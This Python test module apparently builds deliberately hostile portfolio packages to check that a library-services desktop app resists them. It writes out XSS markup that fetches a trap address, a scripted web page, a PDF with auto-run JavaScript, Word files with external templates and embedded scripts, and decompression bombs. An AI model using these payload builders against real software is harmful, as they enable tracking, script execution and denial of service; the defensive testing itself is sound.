"""Packages that somebody made to do harm: whole and valid bags, with everything in them a trap."""

import hashlib
import io
import zipfile
from datetime import date
from pathlib import Path

import docx
from PIL import Image

from lssc_desktop.core.job import ignore_progress
from lssc_desktop.core.portfolio.portfolio import PackageKind, Weight
from lssc_desktop.core.program.schema import Route
from lssc_desktop.package.bag import BagFile, write_bag
from lssc_desktop.package.record import (
    CompetencyRecord,
    EvidenceRecord,
    FileRecord,
    Record,
    encode_record,
)
from lssc_desktop.store.programs import read_program, shipped_program_text
from tests.documents.previews.pdfs import (
    endless,
    page_of,
    pdf,
    stream,
    turning_in_circles,
    vast_picture,
)

DAY = date(2026, 11, 24)
SET = "foundations"
SHOWN = 11
"""The competency that shows all the evidence."""


def markup(trap: str) -> str:
    """Words that would fetch `trap`, or run, wherever they are taken for HTML."""
    return (
        f'"><img src="{trap}" onerror="fetch(\'{trap}\')"><script>fetch("{trap}")</script>'
        f"<a href=\"javascript:fetch('{trap}')\">a</a>&lt;b&gt;"
    )


def hostile_package(
    target: Path,
    trap: str,
    many: int = 0,
    response: bytes | None = None,
    candidate: str = "",
) -> Path:
    """Write a valid package in which every text and file would fetch the address `trap`.

    `many` small files come besides, in the payload and not in the record. Every competency has
    the same `response`. The `candidate` has a hostile name too, unless told otherwise.
    """
    bad = markup(trap)
    program = shipped_program_text().replace(
        'title = "Foundations of Library Services"',
        f"title = '''Foundations {bad}'''",
        1,
    )
    evidence = hostile_evidence(trap)
    names = {f"evidence/{number:02}{_ending(name)}": name for number, name in enumerate(evidence)}
    response = word(bad, trap) if response is None else response
    payload = [BagFile("index.html", page(trap)), BagFile("program.toml", program.encode())]
    payload += [BagFile("responses/11.docx", response), BagFile("responses/s.docx", response)]
    payload += [BagFile(path, evidence[name]) for path, name in names.items()]
    payload += [BagFile(f"evidence/many/{n}.txt", b"%d" % n) for n in range(many)]
    known = read_program(program, "t")
    competency_set = known.competency_set(SET)
    assert competency_set is not None
    competencies = tuple(
        _competency(item.number, bad, tuple(names) if item.number == SHOWN else ())
        for item in competency_set.competencies
    )
    files = tuple(
        FileRecord(path, f"{bad[:60]} {name}", _sum(evidence[name]), len(evidence[name]))
        for path, name in names.items()
    )
    record = Record(
        1, "lssc", known.version, SET, bad, PackageKind.REVIEW_COPY, 1, DAY,
        bad[:40], candidate or bad, DAY, Route.PORTFOLIO, "responses/s.docx", competencies, None,
        files,
    )  # fmt: skip
    payload.append(BagFile("record.json", encode_record(record)))
    info = (("Contact-Name", candidate or bad.replace("\n", " ")), ("External-Description", bad))
    write_bag(target, "hostile", payload, info, DAY, ignore_progress)
    return target


def hostile_evidence(trap: str) -> dict[str, bytes]:
    """Files of every kind that would fetch something, run something, or take all the memory."""
    bad = markup(trap).encode()
    return {
        "script.pdf": _scripted(trap),
        "endless.pdf": endless(),
        "vast.pdf": vast_picture(),
        "circles.pdf": turning_in_circles(),
        "bomb.png": picture_bomb(),
        "half.jpg": b"\xff\xd8\xff\xe0" + b"\0" * 200,
        "letter.docx": word(markup(trap), trap),
        "notes.txt": bad,
        "notes.md": b"![x](%s) <script>%s</script>\n" % (trap.encode(), bad),
        "page.html": b"<script>fetch('%s')</script>" % trap.encode(),
        "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="%s"/></svg>'
        % trap.encode(),
        "nothing.pdf": b"",
    }


def picture_bomb() -> bytes:
    """A picture of little more than nothing that unfolds to 400 million pixels."""
    file = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(file, "PNG")
    return file.getvalue()


def endless_word() -> bytes:
    """A Word file of a few kilobytes that unfolds to fifteen million characters."""
    plain = io.BytesIO()
    docx.Document().save(plain)
    words = b"<w:p><w:r><w:t>" + b"word " * 3_000_000 + b"</w:t></w:r></w:p>"
    made = io.BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "word/document.xml":
                content = content.replace(b"<w:sectPr", words + b"<w:sectPr", 1)
            new.writestr(name, content)
    return made.getvalue()


def word(words: str, trap: str) -> bytes:
    """A Word file of HTML in words, with an outside picture, an outside template and a script."""
    document = docx.Document()
    document.add_paragraph(words)
    document.add_paragraph("What I did. " + words)
    plain = io.BytesIO()
    document.save(plain)
    made = io.BytesIO()
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    outside = (
        f'<Relationship Id="rOut1" Type="{kinds}/image" Target="{trap}" TargetMode="External"/>'
        f'<Relationship Id="rOut2" Type="{kinds}/attachedTemplate" Target="{trap}"'
        f' TargetMode="External"/>'
        f'<Relationship Id="rOut3" Type="{kinds}/aFChunk" Target="chunk.html"/></Relationships>'
    )
    chunk = '<w:altChunk xmlns:r="{kinds}" r:id="rOut3"/>'.replace("{kinds}", kinds)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            content = old.read(name).decode("utf-8", "surrogateescape")
            if name == "word/_rels/document.xml.rels":
                content = content.replace("</Relationships>", outside)
            if name == "word/document.xml":
                content = content.replace("<w:sectPr", chunk + "<w:sectPr", 1)
            new.writestr(name, content.encode("utf-8", "surrogateescape"))
        new.writestr("word/media/image1.png", picture_bomb())
        new.writestr("word/chunk.html", f"<script>fetch('{trap}')</script>{words}")
    return made.getvalue()


def page(trap: str) -> bytes:
    """A web page that is nothing but harm."""
    return (
        f"<!doctype html><title>x</title><body onload=\"window.ran=1;fetch('{trap}')\">"
        f"<script>window.ran=2;new Image().src='{trap}?1'</script>"
        f"<img src='{trap}?2' onerror=\"window.ran=3\"><link rel=stylesheet href='{trap}?3'>"
        f"<iframe src='{trap}?4'></iframe><meta http-equiv=refresh content=\"0;url={trap}?5\">"
        f"<link rel=preconnect href='{trap}?7'><object data='{trap}?6'></object>"
        "<svg onload='window.ran=4'></svg><p>Read me</p>"
    ).encode()


def _scripted(trap: str) -> bytes:
    objects = page_of(b"BT /F 24 Tf 100 700 Td (Click here) Tj ET")
    objects[0] = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R"
        b" /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>"
    )
    script = f"app.launchURL('{trap}'); this.submitForm('{trap}');".encode()
    objects.append(b"<< /S /JavaScript /JS 7 0 R /Next << /S /URI /URI (%s) >> >>" % trap.encode())
    objects.append(stream(script))
    return pdf(objects)


def _competency(number: int, bad: str, evidence: tuple[str, ...]) -> CompetencyRecord:
    uses = tuple(EvidenceRecord(path, Weight.PRIMARY, bad, bad, ("a",)) for path in evidence)
    return CompetencyRecord(number, bad, bad, bad, "responses/11.docx", 9, 0.1, uses)


def _ending(name: str) -> str:
    return name[name.rindex(".") :]


def _sum(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()
